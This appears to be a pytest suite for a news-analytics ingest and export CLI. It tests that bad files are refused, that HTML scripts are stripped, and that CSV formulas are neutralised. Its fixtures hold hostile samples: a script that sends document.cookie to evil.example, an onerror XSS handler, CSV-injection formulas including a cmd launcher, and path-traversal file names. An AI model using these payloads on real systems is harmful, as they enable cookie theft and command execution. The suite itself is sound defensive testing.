"""Whatever an analyst saved from the web: each bad file gets a clear message, good files are
stored, and nothing stored earlier changes. Runs the real CLI on a real database file."""

from __future__ import annotations

import subprocess
import sys

import duckdb
import pytest

from tests.conftest import ROOT, SEED

PAYLOADS = {
    "empty.txt": (b"", "empty"),
    "renamed-pdf.txt": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF"),
    "renamed-png.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG"),
    "garbage.txt": (bytes(range(128, 256)) * 40, "not valid UTF-8"),
    "bad-front-matter.md": (
        b"---\ntitle: [unclosed\npublished: 2023-01-01\n---\nText.",
        "malformed front matter",
    ),
    "bad-date.md": (b"---\npublished: soon\n---\nRussian forces shelled Kherson.", "not YYYY-MM-DD"),
}


def ingest(db, *paths, env=None):
    import os

    e = dict(os.environ, **(env or {}))
    return subprocess.run(
        [sys.executable, "-m", "analytics", "ingest", *map(str, paths), "--db", str(db)],
        capture_output=True, text=True, cwd=ROOT, env=e,
    )  # fmt: skip


def snapshot(db):
    con = duckdb.connect(str(db), read_only=True)
    try:
        tables = ["documents", "sentences", "events", "aid_figures", "diplomatic_items", "statements",
                  "record_actors", "record_themes", "record_sources"]  # fmt: skip
        return {t: con.execute(f"SELECT * FROM {t} ORDER BY ALL").fetchall() for t in tables}
    finally:
        con.close()


@pytest.fixture
def stored(tmp_path):
    db = tmp_path / "h.duckdb"
    assert ingest(db, SEED).returncode == 0
    return db


def test_each_hostile_file_is_refused_with_its_reason_and_nothing_changes(tmp_path, stored):
    before = snapshot(stored)
    folder = tmp_path / "in"
    folder.mkdir()
    for name, (raw, _) in PAYLOADS.items():
        (folder / name).write_bytes(raw)
    p = ingest(stored, folder)
    assert p.returncode == 1
    for name, (_, reason) in PAYLOADS.items():
        line = [ln for ln in p.stderr.splitlines() if ln.startswith(f"failed: {name}: ")]
        assert line and reason in line[0], (name, p.stderr)
    assert snapshot(stored) == before


def test_good_files_beside_bad_ones_are_stored(tmp_path, stored):
    folder = tmp_path / "mixed"
    folder.mkdir()
    (folder / "empty.txt").write_bytes(b"")
    (folder / "cp1251.txt").write_bytes(
        "Обстрел Харькова\n\nРоссийские войска обстреляли Харьков в понедельник, сообщили власти.".encode(
            "cp1251"
        )
    )
    (folder / "latin1.txt").write_bytes(
        "Café talks\n\nThe Kremlin denied that its forces had shelled the café district of Kherson.".encode(
            "latin-1"
        )
    )
    (folder / "dup-of-seed.txt").write_bytes(SEED.read_bytes())
    p = ingest(stored, folder)
    assert "2 added" in p.stdout and "1 already present" in p.stdout and "1 failed" in p.stdout
    con = duckdb.connect(str(stored), read_only=True)
    texts = [t for (t,) in con.execute("SELECT text FROM documents").fetchall()]
    con.close()
    assert any("Харьков" in t for t in texts) and any("café" in t for t in texts)


def test_oversized_file_is_refused_by_the_configurable_limit(tmp_path, stored):
    big = tmp_path / "big.txt"
    big.write_text("Russian forces shelled Kherson. " * 40_000)  # ~1.3 MB
    p = ingest(stored, big, env={"DASHBOARD_MAX_ARTICLE_MB": "1"})
    assert p.returncode == 1 and "over the 1 MB limit" in p.stderr


def test_multi_megabyte_single_line_is_handled(tmp_path, stored):
    line = tmp_path / "one-line.txt"
    line.write_text("the convoy moved slowly along the road near the border " * 40_000)  # ~2.2 MB, no stops
    p = ingest(stored, line)
    assert p.returncode == 0 and "1 added" in p.stdout
    con = duckdb.connect(str(stored), read_only=True)
    longest = con.execute("SELECT max(end_char - start_char) FROM sentences").fetchone()[0]
    con.close()
    assert longest < 5_000  # run-on text is cut into bounded pieces


def test_html_scripts_and_handlers_never_reach_the_store(tmp_path, stored):
    page = tmp_path / "page.html"
    story = " ".join(["Ukrainian forces recaptured the village of Robotyne, the General Staff said."] * 4)
    page.write_text(
        "<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head><body>"
        "<iframe src='https://evil.example'></iframe><article><h1>Robotyne</h1>"
        f"<p>{story}</p><p><img src=x onerror=alert(1)>Fighting continued nearby on Tuesday.</p>"
        "</article></body></html>"
    )
    p = ingest(stored, page)
    assert p.returncode == 0, p.stderr
    con = duckdb.connect(str(stored), read_only=True)
    text = con.execute("SELECT text FROM documents WHERE name = 'page.html'").fetchone()[0]
    con.close()
    assert "recaptured the village" in text
    for bad in ("<script", "evil.example", "onerror", "<iframe", "alert(1)"):
        assert bad not in text


def test_formulas_in_text_are_stored_verbatim_and_neutralised_on_export(tmp_path, stored):
    art = tmp_path / "formulas.md"
    art.write_text(
        "---\npublished: 2023-03-01\n---\n"
        '=HYPERLINK("http://evil.example","x") Ukraine accused Russia of shelling Kherson.\n\n'
        "+cmd|' /C calc'!A0 The Kremlin denied the reports.\n\n@SUM(1+1) Russia warned the West.\n\n"
        "-2+3 Zelensky urged allies to send tanks.\n"
    )
    assert ingest(stored, art).returncode == 0
    out = tmp_path / "s.csv"
    subprocess.run([sys.executable, "-m", "analytics", "export", "records", "--db", str(stored), "--out", str(out)],
                   check=True, cwd=ROOT, capture_output=True)  # fmt: skip
    import csv

    rows = list(csv.reader(out.open(encoding="utf-8")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'-2+3") for c in cells)
    con = duckdb.connect(str(stored), read_only=True)
    raw = con.execute("SELECT text FROM documents WHERE name = 'formulas.md'").fetchone()[0]
    con.close()
    assert raw.startswith('=HYPERLINK("http://evil.example"')  # the store keeps what the analyst gave


@pytest.mark.parametrize("name", ["../../etc/passwd.txt", "..\\..\\windows\\a.txt", "a/b/../c.txt"])
def test_path_like_names_are_reduced_to_a_base_name(name):
    from analytics.corpus import build_document, safe_name

    assert "/" not in safe_name(name) and "\\" not in safe_name(name) and not safe_name(name).startswith(".")
    assert build_document(name, b"Russian forces shelled Kherson.").name == safe_name(name)
